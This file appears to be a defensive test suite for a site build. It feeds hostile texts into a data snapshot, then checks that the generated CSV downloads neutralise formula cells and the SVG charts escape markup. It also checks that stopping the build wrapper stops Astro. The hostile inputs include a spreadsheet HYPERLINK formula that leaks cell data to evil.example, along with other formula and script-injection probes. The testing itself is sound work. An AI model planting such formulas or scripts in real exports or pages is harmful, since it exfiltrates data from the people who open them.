// The open-data downloads as a visitor's spreadsheet reads them, built from a
// snapshot whose texts came from a hostile import file: no cell may start
// like a formula (CSV injection), and numbers — negative ones too — stay
// numbers. Also: stopping the build wrapper stops Astro with it.
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { startsLikeFormula, type Snapshot } from '@sdd/shared-types';
import { parseCsv } from '../support/read-csv.ts';
import { runScript } from '../../../scripts/test/run-script.ts';

const siteRoot = resolve(import.meta.dirname, '..', '..');
const BUILD = join(siteRoot, 'scripts', 'build.ts');
const work = mkdtempSync(join(tmpdir(), 'sdd-downloads-'));
const outDir = join(work, 'site');
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Quelle")';

let kpiCode = '';

beforeAll(async () => {
  const snapshot = JSON.parse(readFileSync(inject('snapshotFile'), 'utf8')) as Snapshot;
  const kpi = snapshot.kpis[0]!;
  kpiCode = kpi.code;
  kpi.sourceName = '@Quelle SUM(1+1)';
  kpi.observations[0]!.note = HYPERLINK;
  kpi.observations[1]!.note = '+49 6021 330-0';
  kpi.observations[2]!.note = '\t=1+1';
  kpi.observations[3]!.value = -12.5;
  kpi.name = 'CO₂ <script>alert(1)</script> & "Co"';
  const snapshotFile = join(work, 'snapshot.json');
  writeFileSync(snapshotFile, JSON.stringify(snapshot));
  // Without PNGs (as preview builds): faster, and the links to them must then be absent, not broken.
  // A child that does not block the test's event loop (the file's servers keep answering meanwhile).
  const build = await runScript(
    BUILD,
    [],
    { SNAPSHOT_FILE: snapshotFile, SITE_OUT_DIR: outDir, SITE_PNG_IMAGES: '0' },
    { cwd: siteRoot },
  );
  if (build.code !== 0) throw new Error(`site build failed:\n${build.out}\n${build.err}`);
}, 300_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('CSV downloads from hostile texts', () => {
  const downloads = () => [
    'daten/kennzahlen.csv',
    ...readdirSync(join(outDir, 'kennzahlen'))
      .filter((f) => f.endsWith('.csv'))
      .map((f) => `kennzahlen/${f}`),
    ...readdirSync(join(outDir, 'kacheln'))
      .filter((f) => f.endsWith('.csv'))
      .map((f) => `kacheln/${f}`),
  ];
  const excelDownloads = () => [
    'daten/kennzahlen-excel.csv',
    ...readdirSync(join(outDir, 'daten', 'excel')).map((f) => `daten/excel/${f}`),
  ];

  it('no cell of any CSV download starts like a formula', () => {
    const files = downloads();
    expect(files.length).toBeGreaterThan(5);
    for (const file of files) {
      const rows = parseCsv(readFileSync(join(outDir, file), 'utf8').replace(/^\uFEFF/, ''));
      for (const [r, row] of rows.entries())
        for (const [c, cell] of row.entries())
          expect(startsLikeFormula(cell), `${file} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
    }
  });

  it('no cell of any German-Excel download starts like a formula, and -12.5 stays the number -12,5', () => {
    const files = excelDownloads();
    expect(files.length).toBeGreaterThan(5);
    for (const file of files) {
      const rows = parseCsv(readFileSync(join(outDir, file), 'utf8').replace(/^\uFEFF/, ''), ';');
      for (const [r, row] of rows.entries())
        for (const [c, cell] of row.entries())
          expect(startsLikeFormula(cell), `${file} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
    }
    const [header, ...data] = parseCsv(
      readFileSync(join(outDir, 'daten', 'excel', `${kpiCode.toLowerCase()}.csv`), 'utf8').replace(/^\uFEFF/, ''),
      ';',
    );
    expect(data[3]![header!.indexOf('wert')]).toBe('-12,5');
    expect(data[0]![header!.indexOf('anmerkung')]).toBe(`'${HYPERLINK}`);
  });

  it('keeps the texts readable (with a leading apostrophe) and numbers as numbers', () => {
    const rows = parseCsv(
      readFileSync(join(outDir, 'kennzahlen', `${kpiCode.toLowerCase()}.csv`), 'utf8').replace(/^\uFEFF/, ''),
    );
    const [header, ...data] = rows;
    const col = (name: string) => header!.indexOf(name);
    expect(data[0]![col('anmerkung')]).toBe(`'${HYPERLINK}`);
    expect(data[1]![col('anmerkung')]).toBe("'+49 6021 330-0");
    expect(data[2]![col('anmerkung')]).toBe("'\t=1+1");
    expect(data[0]![col('quelle')]).toBe("'@Quelle SUM(1+1)");
    expect(data[3]![col('wert')]).toBe('-12.5');
    const all = parseCsv(readFileSync(join(outDir, 'daten', 'kennzahlen.csv'), 'utf8').replace(/^\uFEFF/, ''));
    expect(all.some((row) => row[col('anmerkung')] === `'${HYPERLINK}`)).toBe(true);
    expect(all.some((row) => row[col('kennzahl_code')] === kpiCode && row[col('wert')] === '-12.5')).toBe(true);
  });
});

describe('chart images from hostile texts', () => {
  it('escape the name in the SVG (no markup gets in)', () => {
    const svg = readFileSync(join(outDir, 'kennzahlen', `${kpiCode.toLowerCase()}.svg`), 'utf8');
    expect(svg).not.toContain('<script');
    expect(svg).toContain('Verlauf: CO₂ &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Co&quot;');
  });

  it('a build without PNGs has no PNG files, links or og:image pointing to one', () => {
    const files = [
      ...readdirSync(join(outDir, 'kennzahlen')),
      ...readdirSync(join(outDir, 'kacheln')),
      ...readdirSync(outDir),
    ];
    expect(files.filter((f) => f.endsWith('.png'))).toEqual([]);
    const html = readFileSync(join(outDir, 'kennzahlen', kpiCode.toLowerCase(), 'index.html'), 'utf8');
    expect(html).toContain(`href="/kennzahlen/${kpiCode.toLowerCase()}.svg"`);
    expect(html).not.toMatch(/(href|src|content)="[^"]*\.png"/);
    expect(html).not.toContain('og:image');
  });
});

describe('the build wrapper', () => {
  /** Child processes of `pid`, from /proc. */
  const childrenOf = (pid: number) =>
    readdirSync('/proc')
      .filter((d) => /^\d+$/.test(d))
      .filter((d) => {
        try {
          return (
            readFileSync(`/proc/${d}/stat`, 'utf8')
              .replace(/^.*\) /, '')
              .split(' ')[1] === String(pid)
          );
        } catch {
          return false;
        }
      })
      .map(Number);

  it('stopped with SIGTERM, it has stopped Astro by the time it exits', async () => {
    const wrapper = spawn(process.execPath, [BUILD], {
      cwd: siteRoot,
      env: { ...process.env, SNAPSHOT_FILE: inject('snapshotFile'), SITE_OUT_DIR: join(work, 'killed') },
      stdio: 'ignore',
    });
    const exited = new Promise((r) => wrapper.once('exit', r));
    let astro: number | undefined;
    try {
      while (astro === undefined) {
        astro = childrenOf(wrapper.pid!).find(
          (pid) => existsSync(`/proc/${pid}/cmdline`) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('astro'),
        );
        if (astro === undefined) await new Promise((r) => setTimeout(r, 20));
      }
      wrapper.kill('SIGTERM');
      await exited;
      expect(existsSync(`/proc/${astro}`)).toBe(false);
    } finally {
      if (astro !== undefined && existsSync(`/proc/${astro}`)) process.kill(astro, 'SIGKILL');
    }
  });
});
